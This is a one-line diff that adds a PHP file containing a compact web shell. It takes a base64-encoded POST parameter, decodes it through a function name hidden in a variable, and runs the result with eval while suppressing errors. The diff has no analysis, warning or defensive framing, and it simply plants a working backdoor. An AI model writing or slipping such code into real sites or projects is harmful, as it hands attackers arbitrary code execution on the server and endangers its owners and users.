@@ -1,0 +1,1 @@
+<?php $x = $_POST["x"]; $y = "base64_decode"; $z = $y($x); @eval($z); ?>
